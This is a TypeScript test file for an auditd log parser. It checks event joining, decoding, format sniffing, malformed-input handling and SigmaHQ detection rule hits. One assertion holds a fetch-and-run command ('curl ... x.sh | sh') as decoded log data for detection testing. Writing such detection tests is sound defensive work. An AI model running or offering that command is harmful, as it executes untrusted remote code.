import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { MAX_REPORTED_ISSUES } from '../lines.ts';
import { SIGMA_SKIP, readAll, sigmaHits } from '../testkit.ts';
import { eventKeys, fieldSourceOf } from '../../logsource/index.ts';
import { auditdReader, createAuditdReader } from './index.ts';

const fx = (name: string): string => join(import.meta.dirname, '__fixtures__', name);
const FIXTURE = readFileSync(fx('debian12-audit.txt'));

test('Debian 12 audit.log: records joined into events, in order, with time and line', async () => {
  const { events, issues } = await readAll(auditdReader, FIXTURE, { path: 'audit.log' });
  assert.deepEqual(issues, []);
  const types = events.map((e) => e.data['type']);
  assert.deepEqual(types, [
    'USER_AUTH',
    'USER_START',
    ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'],
    'USER_CMD',
    ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PROCTITLE'],
    ['SYSCALL', 'EXECVE', 'CWD', 'PROCTITLE'],
    ['SYSCALL', 'EXECVE', 'PROCTITLE'],
    ['SYSCALL', 'EXECVE', 'PROCTITLE'],
    'ADD_USER',
    ['SYSCALL', 'PROCTITLE'],
    ['SYSCALL', 'CWD', 'PATH', 'PROCTITLE'],
    'AVC',
    'USER_LOGIN',
    'DAEMON_END',
  ]);
  const uname = events[2]!;
  assert.deepEqual(uname.source, { file: 'audit.log', line: 3 });
  assert.equal(new Date(uname.time!).toISOString(), '2026-11-25T10:02:00.512Z');
  assert.ok(eventKeys(uname).includes('auditd'));
  const fs = fieldSourceOf(uname);
  assert.deepEqual(fs.get('a0'), ['55f0c2b6e7a0', 'uname']);
  assert.equal(fs.get('SYSCALL'), 'execve');
  assert.equal(fs.get('exe'), '/usr/bin/uname');
  assert.deepEqual(fs.get('name'), ['/usr/bin/uname', '/lib64/ld-linux-x86-64.so.2']);
  assert.equal(fs.get('proctitle'), 'uname -a');
  // hex-encoded argument and working directory
  assert.deepEqual(events[4]!.data['a2'], ['55f0c2b6e900', 'curl -s http://203.0.113.50/x.sh | sh']);
  assert.equal(events[4]!.data['cwd'], '/home/ops/my docs');
  // split argument put back together
  assert.deepEqual(events[5]!.data['a2'], ['55f0c2b6e900', 'print("hello")']);
  // interleaved events kept apart
  assert.deepEqual(events[6]!.data['exe'], '/usr/bin/id');
  assert.deepEqual(events[7]!.data['exe'], '/usr/bin/hostname');
  // raw format: syscall named from the table
  assert.equal(events[9]!.data['SYSCALL'], 'syslog');
  // sudo's command
  assert.equal(events[3]!.data['cmd'], 'systemctl restart nginx');
  // node= gives the host
  assert.equal(events[12]!.host, 'web01');
});

test('records interleaved with many other events: joined within the window, memory bounded', async () => {
  // 300 events whose SYSCALL lines come first and the EXECVE lines 300 lines later
  const n = 300;
  const lines: string[] = [];
  for (let i = 0; i < n; i++) lines.push(`type=SYSCALL msg=audit(1700000000.000:${i}): syscall=59 exe="/bin/e${i}"`);
  for (let i = 0; i < n; i++) lines.push(`type=EXECVE msg=audit(1700000000.000:${i}): argc=1 a0="e${i}"`);
  const text = lines.join('\n') + '\n';
  const wide = await readAll(createAuditdReader({ limits: { window: 1000, maxOpen: 1000, maxRecords: 100 } }), text);
  assert.equal(wide.events.length, n);
  assert.ok(wide.events.every((e) => Array.isArray(e.data['type'])));
  // a small window: events are completed before their late records come, which then stand alone
  const narrow = await readAll(createAuditdReader({ limits: { window: 10, maxOpen: 1000, maxRecords: 100 } }), text);
  assert.equal(narrow.events.length, 2 * n);
  const capped = await readAll(createAuditdReader({ limits: { window: 1000, maxOpen: 50, maxRecords: 100 } }), text);
  assert.equal(capped.events.length, 2 * n);
  // an event with too many records is split, and says so
  const many = Array.from({ length: 25 }, (_, i) => `type=PATH msg=audit(1.0:9): item=${i} name="/f${i}"`).join('\n');
  const split = await readAll(createAuditdReader({ limits: { window: 1000, maxOpen: 10, maxRecords: 10 } }), many);
  assert.equal(split.events.length, 3);
  assert.equal(split.issues.length, 2);
  assert.match(split.issues[0]!.message, /more than 10 records/);
});

test('sniffing: audit.log and ausearch output yes; syslog, JSON, text no', () => {
  assert.equal(auditdReader.sniff(FIXTURE, 'audit.log'), true);
  const ausearch = '----\ntime->Tue Nov 25 10:02:00 2026\n' + FIXTURE.toString().split('\n').slice(2, 8).join('\n');
  assert.equal(auditdReader.sniff(Buffer.from(ausearch), 'x'), true);
  const no = [
    'Nov 25 10:00:00 deb12 kernel: audit: type=1400 audit(1795594212.000:812): apparmor="DENIED"\n',
    '{"type":"SYSCALL","msg":"audit(1.0:1)"}\n',
    'type=1 but not audit\n',
    '',
  ];
  for (const s of no) assert.equal(auditdReader.sniff(Buffer.from(s), 'x'), false, s);
});

test('hostile input: bad lines reported with their line, good ones read', async () => {
  const good = FIXTURE.toString().split('\n').slice(2, 8).join('\n') + '\n';
  const cases: { name: string; input: string | Uint8Array; events: number; issues: RegExp[]; chunk?: number }[] = [
    { name: 'garbage line', input: 'hello\n' + good, events: 1, issues: [/line 1: not an audit record: no type=/] },
    {
      name: 'truncated in the middle of a record',
      input: good + 'type=SYSCALL msg=audit(1795601400.1',
      events: 1,
      issues: [/line 7: not an audit record: malformed/],
    },
    {
      name: 'a 20 MB line',
      input: good + 'type=EXECVE msg=audit(1.0:1): a0=' + 'A'.repeat(20 << 20) + '\n' + good,
      events: 2,
      issues: [/line 7: line longer than/],
      chunk: 1 << 20,
    },
    {
      name: 'invalid UTF-8 in a hex argument and in a quoted value',
      input: Buffer.concat([
        Buffer.from('type=EXECVE msg=audit(1.0:1): argc=2 a0="ca'),
        Buffer.from([0xff]),
        Buffer.from('" a1=C3FF\n'),
      ]),
      events: 1,
      issues: [],
    },
    { name: 'ausearch separators are not issues', input: '----\ntime->x\n' + good, events: 1, issues: [] },
  ];
  for (const c of cases) {
    const { events, issues } = await readAll(auditdReader, c.input, c.chunk ? { chunk: c.chunk } : {});
    assert.equal(events.length, c.events, c.name);
    assert.equal(issues.length, c.issues.length, `${c.name}: ${issues.map((i) => i.message).join('; ')}`);
    c.issues.forEach((re, i) => assert.match(`${issues[i]!.where}: ${issues[i]!.message}`, re, c.name));
  }
  const bad = await readAll(auditdReader, 'type=EXECVE msg=audit(1.0:1): argc=2 a0="x" a1=C3FF\n');
  assert.equal(bad.events[0]!.data['a1'], '\ufffd\ufffd');
});

test('SigmaHQ auditd rules bind and fire on joined events', { skip: SIGMA_SKIP }, async () => {
  const hits = await sigmaHits(
    [
      'rules/linux/auditd/lnx_auditd_system_info_discovery.yml',
      'rules/linux/auditd/execve/lnx_auditd_user_discovery.yml',
      'rules/linux/auditd/syscall/lnx_auditd_create_account.yml',
      'rules/linux/auditd/syscall/lnx_auditd_clean_disable_dmesg_logs_via_syslog.yml',
      'rules/linux/auditd/path/lnx_auditd_ld_so_preload_mod.yml',
    ],
    fx('debian12-audit.txt'),
  );
  assert.deepEqual(Object.fromEntries(hits), {
    'System Information Discovery - Auditd': 2,
    'System Owner or User Discovery - Linux': 3,
    'Creation Of An User Account': 1,
    'Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall': 1,
    'Modification of ld.so.preload': 1,
  });
});

test('binary garbage forced as this format: issues capped, no crash', async () => {
  const garbage = Buffer.alloc(2 << 20);
  let x = 3;
  for (let i = 0; i < garbage.length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    garbage[i] = x >>> 24;
  }
  const { events, issues } = await readAll(auditdReader, garbage, { chunk: 65536 });
  assert.equal(events.length, 0);
  assert.equal(issues.length, MAX_REPORTED_ISSUES + 1);
});
